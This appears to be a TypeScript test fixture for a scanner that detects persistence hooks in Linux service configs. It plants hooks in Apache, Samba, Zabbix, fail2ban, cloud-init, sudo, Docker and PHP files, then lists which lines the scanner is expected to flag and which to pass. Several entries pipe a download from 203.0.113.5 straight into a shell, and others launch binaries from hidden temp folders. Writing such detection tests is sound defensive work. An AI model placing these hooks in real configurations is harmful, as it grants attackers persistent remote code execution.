import { elf, type Pair, script } from './pair.ts';

export const pair: Pair = {
  packaged: { '/usr/bin/nvidia-container-runtime': elf('runtime') },
  tree: {
    '/etc/apache2/sites-enabled/x.conf':
      '<VirtualHost *:80>\n CustomLog "|/usr/bin/rotatelogs /var/log/apache2/a.%Y 86400" combined\n ErrorLog "|/var/tmp/.a/log"\n CustomLog "|$curl -s http://203.0.113.5/k | sh" common\n RewriteMap m prg:/dev/shm/.a/map\n</VirtualHost>\n',
    '/etc/haproxy/haproxy.cfg':
      'global\n lua-load /dev/shm/.h/x.lua\nprogram api\n command /usr/bin/dataplaneapi -f /etc/haproxy/api.yaml\n',
    '/etc/squid/squid.conf': 'auth_param basic program /var/tmp/.s/auth /etc/squid/passwd\n',
    '/etc/keepalived/keepalived.conf': 'vrrp_instance V {\n  notify_master "/var/tmp/.k/up master"\n}\n',
    '/etc/audit/plugins.d/x.conf': 'active = yes\npath = /dev/shm/.d/plugin\n',
    '/etc/postfix/master.cf':
      'maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\nx unix - n n - - pipe\n  user=root argv=/var/tmp/.p/run ${sender}\n',
    '/etc/samba/smb.conf':
      '[homes]\n  root preexec = curl -s http://203.0.113.5/k | sh\n  panic action = /usr/share/samba/panic-action %d\n',
    '/etc/dnsmasq.conf': 'dhcp-script=/var/tmp/.n/run\n',
    '/etc/zabbix/zabbix_agentd.d/x.conf':
      'UserParameter=disk.free[*],df -P $1 | tail -1\nUserParameter=net.x,curl -s http://203.0.113.5/k | bash\n',
    '/etc/rsyslog.d/30-x.conf': 'module(load="omprog")\naction(type="omprog" binary="/var/tmp/.r/run")\n',
    '/etc/rsyslog.d/queue.conf': 'action(type="omprog" binary="/usr/local/bin/to-queue --json")\n',
    '/usr/local/bin/to-queue': script('cat'),
    '/etc/snmp/snmpd.conf': 'extend raid /bin/cat /proc/mdstat\nextend x /dev/shm/.s/run\n',
    '/etc/smartd.conf': 'DEVICESCAN -m root -M exec /var/tmp/.d/run\n',
    '/etc/fail2ban/action.d/x.local': '[Definition]\nactionstart = curl -s http://203.0.113.5/k | sh\n',
    '/etc/hosts.allow': 'sshd: 10.0.0.0/8\nALL: ALL: spawn (/var/tmp/.h/run %a) &\n',
    '/etc/sudo.conf': 'Plugin sudoers_policy /var/tmp/.s/sudoers.so\n',
    '/etc/docker/daemon.json':
      '{\n "runtimes": {\n  "nvidia": {"path": "/usr/bin/nvidia-container-runtime"},\n  "x": {"path": "/var/tmp/.c/runc"}\n }\n}\n',
    '/etc/php/8.2/fpm/conf.d/99-x.ini': 'auto_prepend_file=/dev/shm/.p/x.php\n',
    '/etc/php/8.2/fpm/conf.d/20-curl.ini': 'extension=curl.so\n',
    '/etc/needrestart/hook.d/99-x': script('curl -s http://203.0.113.5/k | bash'),
    '/etc/needrestart/conf.d/x.conf': '$nrconf{restart} = "a";\nsystem("/var/tmp/.n/run &");\n',
    '/etc/letsencrypt/renewal-hooks/deploy/web': script('systemctl reload nginx'),
    '/var/lib/cloud/scripts/per-boot/x.sh': script('wget -qO- http://203.0.113.5/k | sh'),
    '/etc/cloud/cloud.cfg.d/99-x.cfg': 'bootcmd:\n - [ sh, -c, "curl -s http://203.0.113.5/k | sh" ]\n',
    '/etc/cloud/cloud.cfg.d/05_logging.cfg': 'output:\n  all: "| tee -a /var/log/cloud-init-output.log"\n',
  },
  blamed: [
    more('/etc/apache2/sites-enabled/x.conf', 3),
    { ...more('/etc/apache2/sites-enabled/x.conf', 4), code: 'fetch-pipe-shell' },
    more('/etc/apache2/sites-enabled/x.conf', 5),
    more('/etc/haproxy/haproxy.cfg', 2),
    more('/etc/squid/squid.conf', 1),
    more('/etc/keepalived/keepalived.conf', 2),
    more('/etc/audit/plugins.d/x.conf', 2),
    more('/etc/postfix/master.cf', 4),
    { ...more('/etc/samba/smb.conf', 2), code: 'fetch-pipe-shell' },
    more('/etc/dnsmasq.conf', 1),
    { ...more('/etc/zabbix/zabbix_agentd.d/x.conf', 2), code: 'fetch-pipe-shell' },
    { path: '/etc/rsyslog.d/30-x.conf', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    { path: '/etc/snmp/snmpd.conf', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    { path: '/etc/smartd.conf', line: 1, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    {
      path: '/etc/fail2ban/action.d/x.local',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    },
    { path: '/etc/hosts.allow', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    { path: '/etc/sudo.conf', line: 1, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    { path: '/etc/docker/daemon.json', line: 4, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' },
    {
      path: '/etc/php/8.2/fpm/conf.d/99-x.ini',
      line: 1,
      verdict: 'malicious',
      code: 'temp-folder',
      attack: 'T1546',
    },
    {
      path: '/etc/needrestart/hook.d/99-x',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    },
    {
      path: '/etc/needrestart/conf.d/x.conf',
      line: 2,
      verdict: 'malicious',
      code: 'temp-folder',
      attack: 'T1546',
    },
    {
      path: '/var/lib/cloud/scripts/per-boot/x.sh',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    },
    {
      path: '/etc/cloud/cloud.cfg.d/99-x.cfg',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    },
  ],
  passed: [
    '/etc/apache2/sites-enabled/x.conf line 2',
    '/etc/haproxy/haproxy.cfg line 4',
    '/etc/postfix/master.cf line 2',
    '/etc/samba/smb.conf line 3',
    '/etc/zabbix/zabbix_agentd.d/x.conf line 1',
    'queue.conf',
    '/etc/snmp/snmpd.conf line 1',
    '/etc/hosts.allow line 1',
    '/etc/docker/daemon.json line 3',
    '20-curl.ini',
    'renewal-hooks/deploy/web',
    '05_logging.cfg',
  ],
};

function more(path: string, line: number) {
  return { path, line, verdict: 'malicious', code: 'temp-folder', attack: 'T1546' } as const;
}
